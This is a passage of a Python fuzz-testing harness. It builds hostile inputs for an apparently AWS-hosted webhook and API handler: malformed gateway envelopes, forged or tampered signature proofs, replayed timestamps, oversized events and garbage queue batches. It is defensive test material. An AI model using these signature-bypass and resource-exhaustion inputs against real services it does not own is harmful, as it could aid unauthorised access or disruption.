        "requestContext": {"requestId": "x", "identity": {}, "requestTimeEpoch": 1},
        "pathParameters": event.get("pathParameters"),
        "body": event["body"],
        "isBase64Encoded": event["isBase64Encoded"],
    }


def _odd_epoch(rng: random.Random, event: dict[str, Any]) -> Any:
    now = event["requestContext"]["timeEpoch"]
    odd = [
        now - 9_000,
        now - 3_900,
        now - 4_100,
        now + 9_000,
        now + 10**12,
        -now,
        0,
        str(now),
        float(now),
        10**400,
        True,
    ]
    event["requestContext"]["timeEpoch"] = rng.choice(odd)
    return event


def _several(rng: random.Random, event: dict[str, Any]) -> Any:
    for name in rng.sample([*event], rng.randrange(1, 5)):
        if rng.random() < 0.4:
            del event[name]
        else:
            event[name] = rng.choice(_ODD)
    if "requestContext" not in event:
        event["requestContext"] = {}
    return event


def _lone_surrogates(rng: random.Random, event: dict[str, Any]) -> Any:
    """In the text of the event itself, as no gateway sends them."""
    if not event["isBase64Encoded"]:
        event["body"] = event["body"].replace("a", "\udc61" if rng.random() < 0.5 else "a\ud83d", 3)
    event["headers"]["user-agent"] = "\udcff\ud800"
    return event


ENVELOPES: dict[str, Callable[[random.Random, dict[str, Any]], Any]] = {
    "body missing or odd": _odd_member("body"),
    "headers missing or odd": _odd_member("headers"),
    "odd headers": _odd_headers,
    "content-type odd": _odd_member("headers", "content-type"),
    "requestContext odd": _odd_member("requestContext"),
    "requestId odd": _odd_member("requestContext", "requestId"),
    "timeEpoch odd": _odd_epoch,
    "http odd": _odd_member("requestContext", "http"),
    "routeKey odd": _odd_member("routeKey"),
    "rawQueryString odd": _odd_member("rawQueryString"),
    "rawPath odd": _odd_member("rawPath"),
    "queryStringParameters odd": _odd_member("queryStringParameters"),
    "pathParameters odd": _odd_member("pathParameters"),
    "sender's name odd": _odd_member("pathParameters", "sender"),
    "cookies odd": _odd_member("cookies"),
    "isBase64Encoded odd": _odd_member("isBase64Encoded"),
    "base64 odd": _odd_base64,
    "version 1.0": _version_1,
    "several pieces odd": _several,
    "lone surrogates": _lone_surrogates,
}


# --- hostile proofs ---------------------------------------------------------------------------------------------------


def _proof_header(http: _Http, event: dict[str, Any]) -> str:
    """The header that the proof is in, or may be in."""
    if http.sender.sig_header:
        return http.sender.sig_header
    given = [name for name in event["headers"] if name == "authorization" or "token" in name or "key" in name]
    return given[0] if given else "authorization"


def _strip(http: _Http, event: dict[str, Any]) -> None:
    """Without any proof."""
    for name in [*event["headers"]]:
        if name not in ("content-type", "host") and name != http.sender.ts.removeprefix("header:"):
            del event["headers"][name]
    event["rawQueryString"] = ""
    if any(place.startswith("body:") for place in http.sender.where):
        event["body"], event["isBase64Encoded"] = '{"email": "a@b.example"}', False


def _no_proof(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    _strip(http, event)
    return True


def _odd_proof(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    header = _proof_header(http, event)
    _strip(http, event)
    given = [str(odd) for odd in _ODD] + list(_TEXTS)
    prefix = rng.choice(["", "Bearer ", "Basic ", "bearer\t", "v1,", "v1a,", "t=1,v1=", "sha256="])
    event["headers"][header] = rng.choice([prefix + rng.choice(given), rng.choice(_ODD)])
    return True


def _oversize_proof(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    header = _proof_header(http, event)
    _strip(http, event)
    piece = rng.choice(["A", "v1,", "v1a,AAAA ", "v1=00,", "t=1,", " ", "=", "Basic ", "%41", "\u00e4", "\ud800"])
    event["headers"][header] = piece * (rng.choice([8_192, 100_000]) // len(piece))
    event["rawQueryString"] = rng.choice(["", "token=" * 20_000, "&".join(["token=x"] * 20_000), "%" * 90_000])
    return True


def _candidates(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    """Thousands of guesses around the right one."""
    header = _proof_header(http, event)
    right = event["headers"].get(header)
    if not isinstance(right, str):
        return False
    wrong = right[:-6] + "AAAAAA"
    guesses = [wrong] * rng.choice([3, 20, 3000])
    guesses.insert(rng.randrange(len(guesses)), right)
    event["headers"][header] = rng.choice([" ", ",", ", "]).join(guesses)
    return False


def _near_proof(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    """The right one, a little changed: refused, unless it is but a blank more."""
    header = _proof_header(http, event)
    right = event["headers"].get(header)
    if not isinstance(right, str):
        return False
    near = rng.choice(
        [right[:-2], right + "\0", right + "\r\nx: y", right.swapcase(), f"\ufeff{right}", right[::-1], right + "="]
    )
    event["headers"][header] = near
    # Other places of a token sender may still hold it.
    return near != right and not event["rawQueryString"] and not any(p.startswith("body") for p in http.sender.where)


def _odd_time(requests: Requests, rng: random.Random, http: _Http, event: dict[str, Any], now: float) -> bool:
    """A timestamp that is not now, or no timestamp at all; signed, where that can be done."""
    place, _, name = http.sender.ts.partition(":")
    if not place:
        return False
    at = rng.choice([0.0, now - 100_000, now + 100_000, -now, 10.0**11])
    try:
        headers, _, body = requests._signed(http, requests._secrets.get(http.sender.name, ""), at)
    except (ValueError, OverflowError, OSError):
        return False
    event["headers"] |= headers
    event |= {"body": base64.b64encode(body).decode(), "isBase64Encoded": True}
    if place == "header" and rng.random() < 0.6:
        odd = [
            "9" * 18,
            "-1",
            "",
            "\uff11\uff17\uff19\uff15",
            "1e9",
            "nan",
            "0x10",
            " 1795358768",
            str(10**400),
            None,
            "1795358768,1",
        ]
        event["headers"][name] = rng.choice(odd)
    return True


def _others_secret(requests: Requests, rng: random.Random, http: _Http, event: dict[str, Any], now: float) -> bool:
    """The secret of another sender."""
    if http.sender.name not in requests._secrets:
        return False
    kind = http.sender.key_format == "whsec_base64"
    others = [
        secret
        for name, secret in requests._secrets.items()
        if name != http.sender.name and secret.startswith("whsec_") == kind
    ]
    if not others:
        return False
    _strip(http, event)
    http.body = b'{"email": "a@b.example"}'
    http.content_type = "application/json"
    headers, query, body = requests._signed(http, rng.choice(others), now)
    event["headers"] |= headers
    event |= {"body": body.decode(), "isBase64Encoded": False, "rawQueryString": query}
    return True


def _other_body(_: Requests, rng: random.Random, http: _Http, event: dict[str, Any], _now: float) -> bool:
    """The right proof, for another body."""
    event |= {"body": json.dumps(value(rng)), "isBase64Encoded": False}
    return http.sender.scheme != "token"


PROOFS: dict[str, Callable[[Requests, random.Random, _Http, dict[str, Any], float], bool]] = {
    "no proof": _no_proof,
    "odd proof": _odd_proof,
    "oversize proof": _oversize_proof,
    "thousands of candidates": _candidates,
    "nearly the right proof": _near_proof,
    "odd timestamp": _odd_time,
    "another sender's secret": _others_secret,
    "another body than was signed": _other_body,
}


# --- hostile events of the bus ----------------------------------------------------------------------------------------


def _member(name: str) -> Callable[[Requests, random.Random, dict[str, Any]], Any]:
    def change(_: Requests, rng: random.Random, event: dict[str, Any]) -> Any:
        if rng.random() < 0.15:
            del event[name]
        else:
            event[name] = rng.choice([value(rng), rng.choice(_ODD)])
        return event

    return change


def _detail_values(_: Requests, rng: random.Random, event: dict[str, Any]) -> Any:
    detail = event["detail"] | {"email": "a@b.example"}
    for name in rng.sample([*detail], rng.choice([1, 2, 3])):
        detail[name] = value(rng)
    if rng.random() < 0.3:
        detail.pop("contactId", None)
    return event | {"detail": detail}


def _deep_event(_: Requests, rng: random.Random, event: dict[str, Any]) -> bytes:
    deep = nested(rng)
    name = rng.choice(["detail", "source", "resources", "more"])
    return (json.dumps(event)[:-1] + f', "{name}": {deep}}}').encode()


def _huge_event(_: Requests, rng: random.Random, event: dict[str, Any]) -> bytes:
    filler = rng.choice(
        ['"' + "A" * 30 + '"', "1e15", '"\u00e4\u00e4\u00e4"', '"\\ud800\\udfff"', '"\\u0000"', "[]", '"\ufffe\uffff"']
    )
    size = rng.choice([50_000, 200_000, 255_000, 1_000_000])  # EventBridge takes up to 1 MiB
    more = ",".join([filler] * (size // (len(filler.encode()) + 1)))
    text = json.dumps(event)[:-1]
    return (text + f', "more": [{more}]}}').encode()


def _event_again(requests: Requests, rng: random.Random, event: dict[str, Any]) -> Any:
    """Looks like what comes through another door."""
    return rng.choice(
        [
            event | {"routeKey": "POST /conversations"},
            {"requestPayload": event, "requestContext": None},
            {"requestPayload": event, "version": "1.0"},
            event | {"detail": {"submission": json.loads(requests.message(1, rng, "x"))}},
            event | {"httpMethod": "POST"},
            event | {"detail": event},
        ]
    )


EVENTS_KINDS: dict[str, Callable[[Requests, random.Random, dict[str, Any]], Any]] = {
    "good": lambda _requests, _draw, event: event,
    "detail odd": _member("detail"),
    "detail's values odd": _detail_values,
    "detail's values odd again": _detail_values,
    "detail-type odd": _member("detail-type"),
    "source odd": _member("source"),
    "id odd": _member("id"),
    "resources odd": _member("resources"),
    "time odd": _member("time"),
    "version odd": _member("version"),
    "nested deeply": _deep_event,
    "huge": _huge_event,
    "of another door": _event_again,
}


# --- hostile batches of the queue -------------------------------------------------------------------------------------

_NOT_OF_SQS = re.compile(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")  # what no message of SQS can hold


def _bodies(make: Callable[[Requests, random.Random, int], Any]) -> Callable[..., list[Any]]:
    def records(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
        count = rng.choice([1, 3, 7])
        texts = [_NOT_OF_SQS.sub("?", make(requests, rng, number)) or "?" for _ in range(count)]
        return [record(f"bad-{number}-{each}", text, now) for each, text in enumerate(texts)]

    return records


def _garbage(_: Requests, rng: random.Random, _number: int) -> str:
    garbage = [
        "",
        " ",
        "null",
        "[]",
        "{}",
        '"x"',
        "NaN",
        "{",
        "A" * 250_000,
        nested(rng),
        '{"submission": null}',
        "9" * 5000,
    ]
    return rng.choice(
        [*garbage, '{"submission": {}}', '{"detail-type": 1}', '{"requestPayload": {}}', str(rng.choice(_TEXTS))]
    )


def _odd_submission(requests: Requests, rng: random.Random, number: int) -> str:
    message = json.loads(requests.message(number, rng, f"odd{number:08d}x"))
    for name in rng.sample([*message["submission"]], rng.choice([1, 2])):
        message["submission"][name] = value(rng)
    return json.dumps(message)


def _hostile_submission(requests: Requests, rng: random.Random, number: int) -> str:
    """A submission that was kept, with a hostile body in it."""
    name = rng.choice([*requests._senders])
    http = requests._good(number, "conversations" if name == API else f"webhooks/{name}", rng)
    BODIES[rng.choice([kind for kind in BODIES if kind not in ("huge", "long array")])](requests, rng, number, http)
    body = re.sub(rb"pit-[0-9a-f-]{36}", b"", http.body)
    for secret in requests._secrets.values():
        body = body.replace(secret.encode(), b"")
    if requests.canary.leaks(body.decode("latin-1").replace("\0", "")):
        body = b"{}"  # no door would have kept it
    trigger = "http" if name == API else "webhook"
    return Submission(trigger, name, f"request{number}", 1.0, http.content_type, body[: 256 * 1024]).to_message()


def _raw_event(requests: Requests, rng: random.Random, number: int) -> str:
    event = requests.bus_event(number, rng)
    fuzzed = EVENTS_KINDS[rng.choice([*EVENTS_KINDS])](requests, rng, event)
    return fuzzed.decode() if isinstance(fuzzed, bytes) else json.dumps(fuzzed)


def _on_failure(requests: Requests, rng: random.Random, number: int) -> str:
    context = {"requestId": "8d39a5ea", "functionArn": "arn:aws:lambda:…", "condition": "RetriesExhausted"}
    payload = f'{{"version": "1.0", "requestContext": {json.dumps(context)}, "requestPayload": '
    return payload + _raw_event(requests, rng, number) + f', "responsePayload": {json.dumps(value(rng))}}}'


def _odd_attributes(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
    body = requests.message(number, rng, f"attributes{number:08d}")
    one = record(f"bad-{number}", body, now)
    for name in rng.sample(["ApproximateReceiveCount", "SentTimestamp"], rng.choice([1, 2])):
        one["attributes"][name] = rng.choice([*_ODD, "9" * 30, "-5", "\uff11", "1.5", "1e3", "0"])
    if rng.random() < 0.2:
        one["attributes"] = rng.choice(_ODD)
    return [one]


def _odd_record(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
    one = record(f"bad-{number}", requests.message(number, rng, f"record{number:08d}"), now)
    name = rng.choice(["messageId", "receiptHandle", "body", "attributes", "eventSource"])
    if rng.random() < 0.4:
        del one[name]
    else:
        odd = rng.choice(_ODD)
        one[name] = _NOT_OF_SQS.sub("?", odd) if isinstance(odd, str) else odd
    return [rng.choice([one, one, one, None, "text", 5, []])]


def _old_message(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
    body = requests.message(number, rng, f"old{number:08d}", rng.choice([SICK, LOCATIONS[0]]))
    sent = rng.choice([0, int(1000 * now) - 80 * 3600 * 1000, 10**15])
    count = rng.choice(["1", "2", "1001", "999999"])
    return [record(f"bad-{number}", body, now, SentTimestamp=str(sent), ApproximateReceiveCount=count)]


def _duplicated(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
    body = requests.message(number, rng, f"twice{number:08d}")
    return [record(f"bad-{number}", body, now), record(f"bad-{number}", rng.choice([body, "garbage"]), now)]


def _foreign_records(_: Requests, rng: random.Random, _number: int, _now: float) -> list[Any]:
    return [
        rng.choice(
            [
                {"eventSource": "aws:s3", "s3": {"bucket": {"name": "x"}, "object": {"key": "y"}}},
                {"EventSource": "aws:sns", "Sns": {"Message": "{}", "MessageId": "x"}},
                {"eventSource": "aws:kinesis", "kinesis": {"data": "e30="}},
            ]
        )
    ]


def _long_batch(requests: Requests, rng: random.Random, number: int, now: float) -> list[Any]:
    count = 2_000 if rng.random() < 0.002 else 20
    return [record(f"bad-{number}-{each}", rng.choice(["garbage", "{}", "[]"]), now) for each in range(count)]


BATCHES: dict[str, Callable[[Requests, random.Random, int, float], Any]] = {
    "garbage": _bodies(_garbage),
    "members of a submission odd": _bodies(_odd_submission),
    "kept hostile bodies": _bodies(_hostile_submission),
    "kept hostile bodies again": _bodies(_hostile_submission),
    "raw events": _bodies(_raw_event),
    "failed invocations": _bodies(_on_failure),
    "attributes odd": _odd_attributes,
    "pieces of a record odd": _odd_record,
    "old messages": _old_message,
    "duplicated ids": _duplicated,
    "another service's records": _foreign_records,
    "long": _long_batch,
    "empty": lambda *_: [],
    "no list": lambda _requests, rng, _number, _now: rng.choice([None, {}, "x", 5, True]),
}


# --- hostile top-level events -----------------------------------------------------------------------------------------

TOPS: dict[str, Callable[[random.Random], Any]] = {
    "no object": lambda rng: rng.choice(
        [[], [1], "text", "", None, True, False, 0, 1.5, float("nan"), "Records", ["Records"]]
    ),
    "empty object": lambda _draw: {},
    "junk": lambda rng: {str(rng.choice(_TEXTS)): value(rng) for _ in range(5)},
    "junk array": lambda rng: [value(rng) for _ in range(5)],
    "nested deeply": lambda rng: nested(rng).encode(),
}
